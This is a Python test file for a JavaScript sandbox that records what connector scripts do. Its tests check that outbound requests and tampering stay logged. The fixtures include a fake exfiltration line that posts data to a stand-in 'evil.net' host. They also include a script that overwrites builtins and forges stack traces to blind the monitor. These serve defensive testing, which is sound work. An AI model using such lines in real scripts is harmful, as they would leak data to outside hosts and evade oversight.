"""The sandbox runtime's record, run by the worker directly: out of the script's reach."""

import json
from concurrent.futures import ThreadPoolExecutor

from review.engine.sandbox_worker import run_script

SETUP = {
    "hosts": ["api.example.com"],
    "responses": [{"method": "GET", "url": "https://api.example.com/rows?b=2&a=1",
                   "body": json.dumps([{"id": "a", "n": 1}, {"id": "b", "n": 2}])}],
    "account": {"apikey": "k"}, "parameters": {}, "report": "Items",
}
EXFIL = "httprequest.post('https://' + 'evil' + '.net/x', 'data');\n"
ROWS = (
    "datagrid.magicParseJSON(httprequest.get('https://api.example.com/rows?a=1&b=2'));\n"
    "datagrid.magicParseCSV('id,n\\r\\nc,3\\n');\n"
)


def record_of(source):
    # In a thread of its own, as in the worker: mini-racer adopts an asyncio loop left
    # running in this thread by another test, and then refuses a timeout.
    with ThreadPoolExecutor(max_workers=1) as executor:
        reply = executor.submit(run_script, source, SETUP, 5, 64).result()
    assert reply["status"] == "ok"
    return reply["record"]


def hosts(record):
    return [(r["host"], r["declared"], r["matched"]) for r in record["requests"]]


def test_the_entry_points_are_not_reachable_from_the_script():
    record = record_of("if (typeof __sandboxStart + typeof __sandboxRun + typeof __sandboxResult !== "
                       "'undefinedundefinedundefined') { throw new Error('reachable'); }")
    assert record["error"] is None


def test_the_record_survives_a_script_that_breaks_every_builtin_it_can():
    sabotage = (
        "var noop = function () { return ''; };\n"
        "var protos = [Array.prototype, String.prototype, RegExp.prototype, Object.prototype, Number.prototype];\n"
        "for (var i = 0; i < protos.length; i++) {\n"
        "  for (var names = Object.getOwnPropertyNames(protos[i]), j = 0; j < names.length; j++) {\n"
        "    if (names[j] !== 'constructor' && names[j] !== '__proto__' && names[j] !== 'length') {\n"
        "      try { Object.defineProperty(protos[i], names[j], {value: noop, writable: true, configurable: true}); } catch (e) {}\n"
        "    }\n"
        "  }\n"
        "}\n"
        "Object.defineProperty(Array.prototype, '0', {set: function () {}, get: function () { return 'x'; }, configurable: true});\n"
        "Object.defineProperty(Object.prototype, 'requests', {set: function () {}, get: function () { return []; }, configurable: true});\n"
        "Error.prepareStackTrace = function () { return 'user-script.js:999:1'; };\n"
        "Error.stackTraceLimit = 0;\n"
        "JSON.stringify = JSON.parse = Object.keys = Object.defineProperty = Array.isArray = noop;\n"
        "Function.prototype.call = Function.prototype.apply = Function.prototype.bind = noop;\n"
    )
    record = record_of(ROWS + sabotage + EXFIL)
    assert hosts(record) == [("api.example.com", True, True), ("evil.net", False, False)]
    assert record["requests"][1]["line"] == 18  # not the line prepareStackTrace made up
    assert record["rows"] == 3 and record["request_count"] == 2
    assert [c["name"] for c in record["columns"]] == ["id", "n"]
    assert record["row_shape"]["count"] == 0
    what = {t["what"] for t in record["tampering"]}
    assert {"replaced JSON.stringify", "replaced Array.prototype.push", "replaced Function.prototype.call",
            "replaced RegExp.prototype.exec", 'defined a getter or setter for Array.prototype["0"]',
            'defined a getter or setter for Object.prototype["requests"]'} <= what


def test_a_stub_member_cannot_be_replaced_and_trying_is_recorded_with_its_line():
    record = record_of("'use strict';\nvar post = httprequest.post;\nhttprequest.post = function () {};\n")
    assert record["error"]["name"] == "TypeError" and record["error"]["line"] == 3
    assert record["tampering"] == [{"what": "assigned httprequest.post", "line": 3, "column": 18}]
    record = record_of("delete datagrid.endRow;\nObject.defineProperty(DOMO, 'sleep', {value: 1});\n")
    assert [t["what"] for t in record["tampering"]] == ["deleted datagrid.endRow", "redefined DOMO.sleep"]


def test_the_serializer_writes_what_json_would():
    odd = "q\"uote\\back\nline\ttab\u0001ctl\u00e9\u2028\U0001f600\ud800lone"
    source = f"httprequest.get('https://api.example.com/' + {json.dumps(odd)});\nauth.authenticationFailed({json.dumps(odd)});\n"
    record = record_of(source)
    assert record["requests"][0]["url"] == "https://api.example.com/" + odd
    assert record["auth_message"] == odd
    assert record["sleep_ms"] == 0 and record["discovery_published"] is False


def test_an_honest_script_keeps_its_own_property_and_polyfill_semantics():
    record = record_of(
        "DOMO.helper = function () { return 1; };\n"
        "if (DOMO.helper() !== 1) { throw new Error('helper'); }\n"
        "discovery.tree = {name: 'mine', children: []};\n"
        "Array.prototype.last = function () { return this[this.length - 1]; };\n"
        "if ([1, 2].last() !== 2) { throw new Error('polyfill'); }\n"
        "var t = setInterval(function () { DOMO.log('tick'); if (++n === 3) { clearInterval(t); } }, 100), n = 0;\n"
        + ROWS
    )
    assert record["error"] is None and record["tampering"] == []
    assert record["logs"] == 3 and record["rows"] == 3


def test_work_deferred_by_promises_and_timers_is_part_of_the_run():
    record = record_of("Promise.resolve().then(function () {\n"
                       "  setTimeout(function () {\n    " + EXFIL + "  }, 50);\n});\n")
    assert hosts(record) == [("evil.net", False, False)]


def test_an_endless_timer_chain_ends_at_the_cpu_limit_with_a_record():
    with ThreadPoolExecutor(max_workers=1) as executor:
        reply = executor.submit(run_script, "setInterval(function () {}, 1);\n" + EXFIL, SETUP, 1, 64).result()
    assert reply["status"] == "timeout"
    assert hosts(reply["record"]) == [("evil.net", False, False)]


def test_the_clock_and_math_random_are_seeded_the_same_in_every_run():
    from review.engine.sandbox_pool import shared_pool

    def run_script(source, setup, cpu, heap):
        return shared_pool(2).submit({"kind": "run", "source": source, "setup": setup, "cpu_seconds": cpu,
                                      "heap_mb": heap}, timeout=30)

    source = ("httprequest.get('https://api.example.com/x?r=' + Math.random() + '&t=' + Date.now() + '&d=' + new Date()"
              " + '&s=' + DOMO.getStartDate(null) + '&n=' + new Date(0).getTime() + '&i=' + (new Date() instanceof Date));")
    setup = {"hosts": ["api.example.com"], "responses": [], "now": 1767225600000, "seed": 7}
    urls = [run_script(source, setup, 2, 64)["record"]["requests"][0]["url"] for _ in range(2)]
    assert urls[0] == urls[1]
    assert "&n=0&" in urls[0] and "&i=true" in urls[0] and "&s=2026-01-01" in urls[0]
    other = run_script(source, {**setup, "seed": 8}, 2, 64)["record"]["requests"][0]["url"]
    assert other.split("&t=")[0] != urls[0].split("&t=")[0]  # the seed is what decides the numbers
